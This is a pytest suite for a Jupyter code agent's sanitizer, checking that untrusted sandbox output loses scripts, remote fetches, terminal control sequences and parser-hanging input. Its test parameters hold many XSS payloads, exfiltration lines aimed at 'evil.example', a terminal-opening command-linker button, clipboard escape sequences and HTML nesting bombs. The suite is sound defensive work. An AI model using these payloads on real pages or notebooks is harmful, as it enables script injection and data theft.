"""Sandbox output is hostile: what is shown, what is not, and that ordinary results look as they should."""

from __future__ import annotations

import base64
import json
import re
import struct
import time
import zlib
from html.parser import HTMLParser
from typing import Any

import nh3
import polars
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from jupyter_codeagent.notebook.outputs import clean_markdown, clean_output, clean_text, plain_text
from jupyter_codeagent.notebook.outputs.html import clean_html
from jupyter_codeagent.notebook.outputs.nesting import is_cheap_to_parse
from jupyter_codeagent.types.sandbox import Output


def png(width: int = 640, height: int = 480) -> str:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + head + chunk(b"IEND", b"")).decode()


def jpeg(width: int = 32, height: int = 16) -> str:
    frame = b"\xff\xd8\xff\xe0\x00\x04ab" + b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width)
    return base64.b64encode(frame + b"\x00" * 20).decode()


def hiding(mark: int) -> str:
    """Return a small JPEG with a huge one in front, which a reader skips if it takes the marker for a segment."""
    huge = base64.b64decode(jpeg(60_000, 60_000))[2:]
    skipped = bytes([0xFF, mark]) + struct.pack(">H", 2 + len(huge)) + huge
    return base64.b64encode(b"\xff\xd8" + skipped + base64.b64decode(jpeg())[2:]).decode()


def shown(data: Any, msg_type: str = "display_data") -> tuple[dict[str, Any], tuple[str, ...]]:
    output, notes = clean_output(msg_type, {"data": data, "metadata": {}})
    assert output is not None
    assert output["output_type"] in ("display_data", "execute_result")
    return output["data"], notes


class Seen(HTMLParser):
    """What a browser would be given."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


# --- HTML ---------------------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/?d=secret'>",
    "<img src='//evil.example/a.png'>",
    "<img srcset='http://evil.example/a.png 1x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='http://evil.example'>click</a>",
    "<button data-commandlinker-command='terminal:create-new'>ok</button>",
    "<form action='http://evil.example'><input name=a></form>",
    "<div style='background:url(http://evil.example/x)'>a</div>",
    "<div style='background-color:u\\72l(http://evil.example)'>a</div>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh'>a</div>",
    "<div style='margin-top:-900px'>a</div>",
    "<div style='margin:1px - 900px'>a</div>",
    "<div style='height:99999px'>a</div>",
    "<div style='width:expression(alert(1))'>a</div>",
    "<div style='color:var(--x)'>a</div>",
    "<div id='main' class='jp-Notebook' name='x'>a</div>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example'>",
    "<object data='http://evil.example'></object><embed src='http://evil.example'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<table background='http://evil.example/x'><tr><td>1</td></tr></table>",
    "<video poster='http://evil.example'><source src='http://evil.example'></video>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>a</details>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
]
HARMLESS_TAGS = {"table", "thead", "tbody", "tr", "th", "td", "p", "div", "img", "details", "br", "caption"}
HARMLESS_ATTRIBUTES = {"style", "class", "border", "colspan", "rowspan", "src", "alt", "width", "height", "align"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_cannot_run_code_nor_fetch_nor_cover_the_page(attack: str) -> None:
    data, _ = shown(
        {"text/html": f"<table><tr><td>before</td></tr></table>{attack}<p>after</p>", "text/plain": "x"}
    )

    html = data.get("text/html", "")
    seen = Seen(html)
    assert seen.tags <= HARMLESS_TAGS
    assert {name for name, _ in seen.attributes} <= HARMLESS_ATTRIBUTES
    assert not [
        value for name, value in seen.attributes if name == "src" and not value.startswith("data:image/png")
    ]
    styles = " ".join(value for name, value in seen.attributes if name == "style")
    assert not any(word in styles for word in ("url", "position", "-9", "- 9", "999", "var", "expression", "\\"))
    assert ("class", "jp-Notebook") not in seen.attributes


def test_the_table_of_a_dataframe_stays_and_its_style_block_goes() -> None:
    import pandas as pd

    frame: Any = pd.DataFrame({"a<b": [1, 2], "b": ["<script>alert(1)</script>", "y"]})
    data, notes = shown({"text/plain": repr(frame), "text/html": frame._repr_html_()}, "execute_result")

    assert "<style" not in data["text/html"]
    assert "only-of-type" not in data["text/html"]
    assert 'class="dataframe"' in data["text/html"]
    assert "a&lt;b" in data["text/html"]
    assert "<td>2</td>" in data["text/html"]
    assert data["text/plain"] == repr(frame)
    assert notes == ()


def test_the_html_of_a_polars_frame_keeps_its_cells() -> None:
    import polars as pl

    data, _ = shown({"text/html": pl.DataFrame({"x": [1.5], "y": ["z"]})._repr_html_(), "text/plain": "x"})

    assert "<td>1.5</td>" in data["text/html"]
    assert "<style" not in data["text/html"]


def test_colours_and_alignment_of_a_styled_cell_stay() -> None:
    style = "background-color: rgb(1, 2, 3); color: #123456; text-align: right; font-weight: 700; width: 10em"
    data, _ = shown(
        {"text/html": f"<table><tr><td style='{style}' colspan='2'>1</td></tr></table>", "text/plain": ""}
    )

    kept = dict(Seen(data["text/html"]).attributes)
    assert kept["style"] == style
    assert kept["colspan"] == "2"


def test_an_embedded_png_in_html_stays() -> None:
    data, _ = shown({"text/html": f'<img src="data:image/png;base64,{png()}" width="20">', "text/plain": ""})

    assert "data:image/png" in data["text/html"]


def test_a_big_table_passes_whole() -> None:
    rows = "".join(f"<tr><th>{n}</th><td style='color: red'>{n}</td></tr>" for n in range(5000))
    data, notes = shown({"text/html": f'<div><table border="1">{rows}</table></div>', "text/plain": "t"})

    assert data["text/html"].count("<tr>") == 5000
    assert notes == ()


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000,
        "<div><table></div></table>" * 20_000,
        "<style></div></style><div>" * 20_000,
        "<div title='</div>'>" * 20_000,
        "<div a=\" ' \" b='>'></div>" * 20_000 + "<p>",
        "<b>" * 200_000,
    ],
)
def test_html_that_is_nested_to_hang_the_parser_is_dropped_at_once(bomb: str) -> None:
    started = time.perf_counter()
    data, _ = shown({"text/html": bomb, "text/plain": "words"})

    assert data == {"text/plain": "words"} or len(data["text/html"]) < 3_000_000
    assert time.perf_counter() - started < 5


def test_html_whose_formatting_is_opened_again_in_every_paragraph_is_dropped_before_it_is_parsed() -> None:
    """190 elements that each of 40,000 paragraphs closes and opens again made millions, and took gigabytes."""
    opened = "".join(f"<b title='{n}'>" for n in range(190))
    bomb = f"<p>{opened}{'<p>x</p>' * 40_000}{'</b>' * 190}</p>"
    plain = f"<p><b>{'<p>x</p>' * 40_000}</b></p>"
    assert not is_cheap_to_parse(bomb)
    assert is_cheap_to_parse(plain)
    assert shown({"text/html": bomb, "text/plain": "words"})[0] == {"text/plain": "words"}


MEGABYTE = 1 << 20


@pytest.mark.parametrize(
    "text",
    [
        "<p>src=" + " " * (MEGABYTE - 10) + "x",
        ("src=" + " " * 1000) * 1000,
        "&" * MEGABYTE,
        "&amp;" * (MEGABYTE // 5),
        "&x;" * (MEGABYTE // 3),
        "\N{NO-BREAK SPACE}" * MEGABYTE,
        "a\N{NO-BREAK SPACE}" * (MEGABYTE // 2),
        "<p title='" + "&" * (MEGABYTE - 20) + "'>",
        "<table>" + ("<tr></tr>" + "&" * 1000) * 1000 + "</table>",
        "<" + " " * MEGABYTE,
        " on" * (MEGABYTE // 3),
    ],
    ids=lambda text: text[:12],
)
def test_a_megabyte_of_html_that_is_written_to_be_slow_is_cleaned_or_dropped_at_once(text: str) -> None:
    """The times of these grew with the square of their length: the first would have taken hours."""
    started = time.process_time()
    data, _ = shown({"text/html": text[:MEGABYTE], "text/plain": "words"})

    assert data["text/plain"] == "words"
    assert time.process_time() - started < 5


def test_a_large_table_with_ampersands_is_shown() -> None:
    cells = "<table>" + "<tr><td>Smith &amp; Sons&nbsp;Ltd</td></tr>" * 5_000 + "</table>"
    data, notes = shown({"text/html": cells, "text/plain": "words"})

    assert data["text/html"].count("Smith &amp; Sons") == 5_000
    assert notes == ()


def test_a_sanitizer_that_panics_takes_its_form_of_the_output_along_and_nothing_else(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A panic of Rust code is no `Exception`: it would end the loop on which all runs wait."""

    def panic(*_: object, **__: object) -> str:
        raise polars.exceptions.PanicException("called `Option::unwrap()` on a `None` value")

    monkeypatch.setattr(nh3, "clean", panic)
    data, notes = shown({"text/html": "<b>x</b>", "text/plain": "words"})

    assert data == {"text/plain": "words"}
    assert notes == ("text/html dropped: its sanitizer failed",)


def test_the_user_is_told_what_was_taken_out_of_html() -> None:
    _, notes = shown({"text/html": "<p>a</p><script>1</script>", "text/plain": "a"})

    assert notes == ("active or remote content removed from text/html",)


# --- other types --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "text/latex",
        "text/markdown",
        "application/pdf",
        "application/vnd.plotly.v9+json",
        "image/gif",
        "text/html ",
        "made/up",
    ],
)
def test_types_off_the_list_are_dropped_with_a_note_and_plain_text_survives(mime: str) -> None:
    data, notes = shown({mime: "alert(1)", "text/plain": "still here"})

    assert data == {"text/plain": "still here"}
    assert notes == (f"{mime.strip()} dropped",)


def test_a_bundle_without_plain_text_gets_a_stand_in() -> None:
    assert shown({"image/gif": "GIF89a"})[0] == {"text/plain": "[not shown: image/gif dropped]"}
    assert shown({"image/png": png(3, 4)})[0]["text/plain"] == "[image/png 3x4]"
    assert shown({"text/html": "<table><tr><td>a</td><td>b</td></tr></table>"})[0]["text/plain"] == "a b"
    assert shown({"application/json": {"a": 1}})[0]["text/plain"] == '{"a": 1}'


def test_png_and_jpeg_pass_and_their_size_is_told() -> None:
    data, notes = shown({"image/png": png() + "\n", "text/plain": "<Figure>"})

    assert base64.b64decode(data["image/png"]).startswith(b"\x89PNG")
    assert notes == ()
    output, _ = clean_output("display_data", {"data": {"image/jpeg": jpeg(), "text/plain": "<Figure>"}})
    assert output is not None
    assert plain_text([output]) == "[image/jpeg 32x16]"


@pytest.mark.parametrize(
    ("mime", "value", "reason"),
    [
        ("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode(), "not a PNG"),
        ("image/png", jpeg(), "not a PNG"),
        ("image/jpeg", png(), "not a JPEG"),
        ("image/png", "%%%", "not base64"),
        ("image/png", 7, "not base64"),
        ("image/png", png(60_000, 60_000), "60000x60000 pixels; the limit is 100 million"),
        ("image/png", png(0, 5), "0x5 pixels; the limit is 100 million"),
        ("image/png", base64.b64encode(b"\x89PNG\r\n\x1a\n0000IHDR").decode(), "truncated"),
        ("image/jpeg", base64.b64encode(b"\xff\xd8\xff\xe0").decode(), "truncated"),
        pytest.param(
            "image/jpeg", base64.b64encode(b"\xff\xd8" + b"\xff" * 2_000).decode(), "not a JPEG", id="fill bytes"
        ),
        *(("image/jpeg", hiding(mark), "not a JPEG") for mark in (0x00, 0x01, 0xD0, 0xD7, 0xD8)),
        ("image/png", "A" * (13 << 20), "larger than 8 MiB"),
    ],
)
def test_what_is_no_image_or_too_large_is_dropped(mime: str, value: Any, reason: str) -> None:
    data, notes = shown({mime: value, "text/plain": "x"})

    assert mime not in data
    assert notes == (f"{mime} dropped: {reason}",)


def test_only_the_display_size_of_an_image_is_kept_of_the_metadata() -> None:
    metadata = {"image/png": {"width": 320, "height": True, "evil": "x"}, "isolated": True, "text/html": {"a": 1}}
    output, _ = clean_output("display_data", {"data": {"image/png": png()}, "metadata": metadata})

    assert output is not None
    assert output["metadata"] == {"image/png": {"width": 320}}  # type: ignore[typeddict-item]


@pytest.mark.parametrize("value", [float("nan"), {"a": "\ud800"}, {1, 2}, {"a": "x" * 300_000}])
def test_json_that_no_notebook_can_hold_is_dropped(value: Any) -> None:
    data, notes = shown({"application/json": value, "text/plain": "x"})

    assert data == {"text/plain": "x"}
    assert notes[0].startswith("application/json dropped")


def test_deep_json_is_dropped() -> None:
    value: list[Any] = []
    for _ in range(100_000):
        value = [value]

    assert shown({"application/json": value, "text/plain": "x"})[0] == {"text/plain": "x"}


hostile_values = st.recursive(
    st.none() | st.booleans() | st.floats() | st.text(max_size=20) | st.binary(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3),
    max_leaves=8,
)
mimes = st.sampled_from(["text/plain", "text/html", "image/png", "image/jpeg", "application/json", "x"])


@given(
    st.sampled_from(["stream", "display_data", "execute_result", "error", "comm_open"]),
    hostile_values
    | st.fixed_dictionaries({"data": st.dictionaries(mimes, hostile_values), "metadata": hostile_values}),
)
def test_content_of_any_type_gives_an_output_that_a_notebook_can_hold(msg_type: str, content: Any) -> None:
    output, _ = clean_output(msg_type, content)

    json.dumps(output, allow_nan=False, ensure_ascii=False).encode()


def test_stream_and_error_are_cleaned() -> None:
    stream, _ = clean_output("stream", {"name": "stdout", "text": "\x1b]0;title\x07hi\n"})
    error, _ = clean_output(
        "error", {"ename": "Key\nError\x1b[2J", "evalue": "\x1b[31mbad\u202e", "traceback": ["\x1b[31ma\x1b[2J", 7]}
    )

    assert stream == {"output_type": "stream", "name": "stdout", "text": "hi\n"}
    assert error == {
        "output_type": "error",
        "ename": "Key Error",
        "evalue": "bad<U+202E>",
        "traceback": ["\x1b[31ma\x1b[0m", ""],
    }


def test_a_stream_of_no_name_and_an_empty_one_give_nothing() -> None:
    assert clean_output("stream", {"name": "fd3", "text": "x"}) == (None, ("text of an unknown stream dropped",))
    assert clean_output("stream", {"name": "stdout", "text": ""}) == (None, ())
    assert clean_output("update_display_data", {}) == (None, ("output of type update_display_data dropped",))


# --- text ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "cleaned"),
    [
        ("plain\ttext\n", "plain\ttext\n"),
        ("\x1b[1;31mred\x1b[0m", "\x1b[1;31mred\x1b[0m"),
        ("\x1b[38;5;208mx\x1b[48;2;1;2;3my\x1b[m", "\x1b[38;5;208mx\x1b[48;2;1;2;3my\x1b[0m"),
        ("\x1b[8mhidden\x1b[5mblink", "hiddenblink"),
        ("\x1b[2Jx\x1b[1Ay\x1b[?1049h", "xy"),
        ("\x1b]52;c;aGk=\x07x", "x"),
        ("\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1b]0;never closed\nnext", "\nnext"),
        ("\x1bP+q\x1b\\x\x1b_a\x1b\\y\x1b^b\x1b\\z", "xyz"),
        ("\x9b31mx\x9d0;t\x9cy\x85\x84", "\x1b[31mxy\x1b[0m"),
        ("\x1b\x1b[2J[2J", "[2J"),
        ("\x1b[\x1b[2J2J", "2J"),
        ("\x1bc\x1b(Bx\x1b", "x"),
        ("a\x00b\x07c\x7fd", "abcd"),
        ("user\u202egpj.exe", "user<U+202E>gpj.exe"),
        ("a\U000e0041b", "a<U+E0041>b"),
        ("10%\r50%\r100%\ndone", "100%\ndone"),
        ("long line\rOK", "OKng line"),
        ("abc\b\bX", "aXc"),
        ("dos\r\nline", "dos\nline"),
        ("\x1b[32m10%\x1b[0m\r\x1b[32m20%\x1b[0m", "\x1b[0m\x1b[32m20%\x1b[0m"),
        ("\ud800", "\N{REPLACEMENT CHARACTER}"),
    ],
)
def test_text_keeps_colours_and_nothing_else_that_acts(raw: str, cleaned: str) -> None:
    assert clean_text(raw) == cleaned


@given(st.text(alphabet=st.sampled_from("\x1b[]\x9b\x9d\x9c;0123mJhA\\\x07\r\n\b P(abc"), max_size=60))
def test_cleaned_text_holds_only_colour_sequences_and_is_stable(raw: str) -> None:
    cleaned = clean_text(raw)

    rest = re.sub(r"\x1b\[[0-9;]+m", "", cleaned)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", rest)
    assert clean_text(cleaned) == cleaned


def test_long_text_keeps_its_beginning_and_its_end() -> None:
    cleaned = clean_text("a" * 900 + "z" * 100, 100)

    assert cleaned.startswith("aaa")
    assert cleaned.endswith("zzz")
    assert "[… 900 characters cut]" in cleaned


def test_colours_end_with_their_text_and_none_is_cut_in_half() -> None:
    assert clean_text("\x1b[37;47mpainted over") == "\x1b[37;47mpainted over\x1b[0m"
    assert clean_text("\x1b[31mred\x1b[0m") == "\x1b[31mred\x1b[0m"
    for before in range(70, 80):
        cleaned = clean_text("a" * before + "\x1b[38;5;196m" + "z" * 100, 100)
        assert "\x1b" not in re.sub(r"\x1b\[[0-9;]+m", "", cleaned)


# --- what a model reads, and what it writes -------------------------------------------------------------


def test_plain_text_is_streams_results_and_the_size_of_images() -> None:
    outputs: list[Output] = [
        {"output_type": "stream", "name": "stdout", "text": "\x1b[31mhello\x1b[0m\n"},
        {"output_type": "execute_result", "data": {"text/plain": "42"}, "metadata": {}, "execution_count": None},
        {"output_type": "display_data", "data": {"image/png": png(), "text/plain": "<Figure>"}, "metadata": {}},
        {"output_type": "error", "ename": "KeyError", "evalue": "'x'", "traceback": []},
    ]

    assert plain_text(outputs) == "hello\n42\n[image/png 640x480]\nKeyError: 'x'"


@pytest.mark.parametrize(
    ("prose", "cleaned"),
    [
        ("The **mean** is `3.5`.\n\n- a\n- b", "The **mean** is `3.5`.\n\n- a\n- b"),
        ("see [the docs](http://evil.example/?d=1)", "see the docs"),
        ("![chart](http://evil.example/x.png) done", "chart done"),
        ("[![a](http://e.example/1)](http://e.example/2)", "a"),
        ("[x][1]\n\n[1]: http://evil.example", "[x] [1]"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("<http://evil.example>", "< evil.example>"),
        ("go to https://evil.example or www.evil.example", "go to evil.example or evil.example"),
        ("hthttp://tp://evil.example", "evil.example"),
        ("a < b and c <d", "a < b and c < d"),
        ("costs $5, `x`", "costs \\$5, `x`"),
        ("costs $5 to \\$6, `$x`", "costs ＄5 to ＄6, `＄x`"),
        ("&dollar;&bsol;href{x}{y}&#36; R&D", "& dollar;& bsol;href{x}{y}& #36; R&D"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
        ("\\href{javascript:alert(1)}{x}", "\\ href{javascript:alert(1)}{x}"),
        ("df[0](x) and d['a'][1]", "df[0] (x) and d['a'] [1]"),
        ("\x1b]0;t\x07\x1b[31mred", "red"),
        ("most are from a.b@c.org, `x@y.z`, @property", "most are from a.b\\@c.org, `x@y.z`, @property"),
        ("```python\nx = 1\n```", "```python\nx = 1\n```"),
        ("```mermaid\ngraph TD\n```", "``` text mermaid\ngraph TD\n```"),
        ("~~~~ &#109;ermaid\ngraph TD\n~~~~", "~~~~ text  & #109;ermaid\ngraph TD\n~~~~"),
    ],
)
def test_model_prose_keeps_its_shape_and_loses_addresses(prose: str, cleaned: str) -> None:
    assert clean_markdown(prose) == cleaned


FORMULA = re.compile(r"\$[^$]*\$|\\[(\[]|\\(?:begin|eqref|ref)\b")
"""What MathJax of JupyterLab takes for the beginning of a formula, in a page behind all escapes of Markdown."""


FORMULA_PARTS = ["$", "\\", "(", "[", "begin{", "ref{", "&", "dollar;", "#36;", "bsol;", "`", "|", "x", " "]


@given(st.lists(st.sampled_from(FORMULA_PARTS)))
def test_no_prose_is_displayed_as_a_formula(parts: list[str]) -> None:
    blocks = MarkdownIt("gfm-like", {"linkify": False}).parse(clean_markdown("".join(parts)))
    for block in blocks:
        text = "".join(token.content for token in block.children or () if token.type != "code_inline")
        assert not FORMULA.search(text)


class Typeset(HTMLParser):
    """The texts in which MathJax looks for formulas."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.ignored: list[bool] = []
        self.texts: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.ignored.append("mathjax_ignore" in (dict(attributes).get("class") or "").split())

    def handle_endtag(self, tag: str) -> None:
        self.ignored.pop()

    def handle_data(self, data: str) -> None:
        if not any(self.ignored):
            self.texts.append(data)


@pytest.mark.parametrize(
    "around",
    [
        "<p>{}</p>",
        "<div class='mathjax_ignore tex2jax_ignore'>a</div><p>{}</p>",
        '<div class="mathjax_ignore tex2jax_ignore">a</div><p class="mathjax_process">{}</p></div>',
        "</div>{}<div>",
    ],
)
@pytest.mark.parametrize("formula", ["$\\style{cursor:url(//e.example)}{x}$", "&bsol;(\\href{//e.example}{x}\\)"])
def test_no_formula_is_looked_for_in_an_output(around: str, formula: str) -> None:
    """JupyterLab makes links of some, and loads the picture of a cursor from anywhere."""
    cleaned = clean_html(around.format(formula))

    assert Typeset(cleaned).texts == []
    assert "mathjax_process" not in cleaned
    assert clean_html(cleaned) == cleaned
    assert clean_html("<p>plain</p>") == "<p>plain</p>"


@given(st.text(alphabet=st.sampled_from("![]()<>`:/\\ \n\"'htpswimgx.w$"), max_size=80))
def test_cleaned_prose_holds_no_image_link_or_tag(prose: str) -> None:
    import re

    cleaned = clean_markdown(prose)

    assert "![" not in cleaned
    assert "](" not in cleaned
    assert "][" not in cleaned
    assert "]:" not in cleaned
    assert not re.search(r"<[A-Za-z/!?]", cleaned)
    assert "http://" not in cleaned
